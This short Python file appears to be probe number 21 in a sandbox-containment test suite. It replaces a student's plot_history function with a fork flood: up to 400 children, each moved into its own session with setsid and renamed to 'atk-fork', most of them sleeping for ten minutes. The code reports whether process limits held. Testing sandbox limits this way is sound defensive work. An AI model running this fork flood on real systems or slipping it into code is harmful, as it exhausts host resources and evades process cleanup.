# attack: 21
# form: children that fork children, each in a session of its own, as many as there may be
# replaces: plot_history
# denies: more processes
# allows: a child
# found: plot_history/returns_figure student_error
def plot_history(history):
    import ctypes
    import time

    print("ran", flush=True)
    libc, first = ctypes.CDLL(None), os.getpid()
    pid = os.fork()
    if pid == 0:
        os._exit(3)
    print("allowed: a child" if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 3 else "refused: a child", flush=True)
    for at in range(400):
        try:
            if os.fork() == 0:
                os.setsid()
                libc.prctl(15, b"atk-fork")
                if at % 8:
                    time.sleep(600)
        except BlockingIOError:
            print("denied: more processes", flush=True)
            break
    else:
        print("reached: 400 processes", flush=True)
    if os.getpid() != first:
        time.sleep(600)
    return None
